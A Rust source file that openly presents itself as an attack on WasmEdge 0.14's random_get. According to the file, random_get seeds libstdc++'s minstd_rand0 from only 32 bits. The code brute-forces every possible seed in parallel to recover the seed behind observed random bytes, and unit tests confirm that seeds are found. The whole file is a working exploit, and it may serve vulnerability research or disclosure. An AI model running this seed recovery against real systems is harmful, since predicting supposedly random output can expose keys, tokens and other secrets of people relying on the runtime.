//! The attack on WasmEdge 0.14's `random_get`: tries all seeds of its generator.
//!
//! Each call of `random_get` makes a `std::default_random_engine` from 32 bits of `std::random_device`, and draws words
//! with `std::uniform_int_distribution<uint32_t>`. In libstdc++ the engine is `minstd_rand0`: multiplication by 16807
//! modulo 2³¹ − 1. It has 2³¹ − 2 different seeds, whatever the number of bytes that it gives.

use std::thread;

/// Bytes of one call that the attacker has seen.
pub type Sample = [u8; 32];

const MODULUS: u64 = 0x7FFF_FFFF;
const MULTIPLIER: u64 = 16_807;
/// The number of seeds, 1 to 2³¹ − 2.
const SEEDS: u64 = MODULUS - 1;

/// Searches all seeds, on all processors. Returns the seed of each sample, or None for a sample that no seed gives.
#[must_use]
pub fn find_seeds(samples: &[Sample]) -> Vec<Option<u32>> {
    let threads = thread::available_parallelism().map_or(1, |threads| threads.get() as u64);
    let chunk = SEEDS.div_ceil(threads);
    let mut found = vec![None; samples.len()];
    thread::scope(|scope| {
        let starts = (0..threads).map(|thread| 1 + thread * chunk);
        let searches = starts.map(|start| scope.spawn(move || search(samples, start, (start + chunk).min(MODULUS))));
        let searches: Vec<_> = searches.collect();
        for (sample, seed) in searches.into_iter().filter_map(|search| search.join().ok()).flatten() {
            if let Some(found) = found.get_mut(sample) {
                *found = u32::try_from(seed).ok();
            }
        }
    });
    found
}

/// Pairs of a sample's index and its seed.
fn search(samples: &[Sample], start: u64, end: u64) -> Vec<(usize, u64)> {
    let samples: Vec<_> = samples.iter().map(words).collect();
    let first_words: Vec<_> = samples.iter().map(|[first, ..]| *first).collect();
    let mut found = Vec::new();
    for seed in start..end {
        let first = word(&mut { seed });
        if first_words.contains(&first) {
            let mut state = seed;
            let made = [(); 8].map(|()| word(&mut state));
            found.extend(
                samples.iter().enumerate().filter(|(_, sample)| **sample == made).map(|(index, _)| (index, seed)),
            );
        }
    }
    found
}

fn words(sample: &Sample) -> [u32; 8] {
    let mut words = sample.chunks_exact(4).map(|word| word.try_into().map_or(0, u32::from_le_bytes));
    [(); 8].map(|()| words.next().unwrap_or_default())
}

/// The distribution's next word: a number below 3 chooses one of three ranges, the engine's next state chooses within
/// it. Words of more than 32 bits are rejected.
#[inline(always)]
fn word(state: &mut u64) -> u32 {
    const THIRD: u64 = (SEEDS - 1) / 3;
    loop {
        let range = loop {
            let number = step(state) - 1;
            if number < 3 * THIRD {
                break u64::from(number >= THIRD) + u64::from(number >= 2 * THIRD);
            }
        };
        if let Ok(word) = u32::try_from(range * SEEDS + step(state) - 1) {
            return word;
        }
    }
}

/// The engine's next state. The modulus is 2³¹ − 1, so the upper bits are added to the lower ones.
#[inline(always)]
fn step(state: &mut u64) -> u64 {
    let product = *state * MULTIPLIER;
    let sum = (product & MODULUS) + (product >> 31);
    *state = if sum >= MODULUS { sum - MODULUS } else { sum };
    *state
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The bytes that WasmEdge gives for a seed.
    fn sample(seed: u32) -> Sample {
        let mut state = seed.into();
        let mut sample = [0; 32];
        sample.chunks_exact_mut(4).for_each(|bytes| bytes.copy_from_slice(&word(&mut state).to_le_bytes()));
        sample
    }

    #[test]
    fn the_words_are_those_of_libstdcxx() {
        let expected = [1_126_542_222_u32, 2_569_004_246, 2_699_605_190, 1_751_246_342];
        let bytes: Vec<u8> = expected.iter().flat_map(|word| word.to_le_bytes()).collect();
        assert!(sample(42).starts_with(&bytes));
    }

    #[test]
    fn every_seed_is_found_and_other_bytes_are_not() {
        let (first, last) = (1, 0x7FFF_FFFE);
        let found = find_seeds(&[sample(first), [7; 32], sample(1_234_567_890), sample(last)]);
        assert_eq!(found, [Some(first), None, Some(1_234_567_890), Some(last)]);
    }
}
